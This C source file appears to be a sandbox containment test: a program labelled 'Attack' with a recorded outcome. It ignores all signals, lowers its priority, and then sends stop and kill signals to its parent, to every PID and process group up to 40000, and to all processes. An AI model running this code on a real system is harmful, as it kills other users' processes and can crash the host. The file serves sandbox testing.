/*
 * Attack: kills and stops whatever it can name: parents, groups, sessions, every number.
 * Outcome: fail/other fail/crashed
 */
#define _GNU_SOURCE
#include <signal.h>
#include <sys/resource.h>
#include <unistd.h>

int main(void)
{
	static const int signals[] = {SIGSTOP, SIGTERM, SIGINT, SIGHUP, SIGKILL};

	for (int i = 1; i < 65; i++)
		signal(i, SIG_IGN);
	setpriority(PRIO_PGRP, 0, 19);
	setpriority(PRIO_USER, 0, 19);
	for (size_t i = 0; i < sizeof(signals) / sizeof(*signals); i++) {
		kill(getppid(), signals[i]);
		for (int pid = 1; pid < 40000; pid++)
			if (pid != getpid())
				kill(pid, signals[i]);
		for (int group = 2; group < 40000; group++)
			if (group != getpgrp())
				kill(-group, signals[i]);
		kill(-1, signals[i]);
	}
	kill(0, SIGKILL);
	return 1;
}
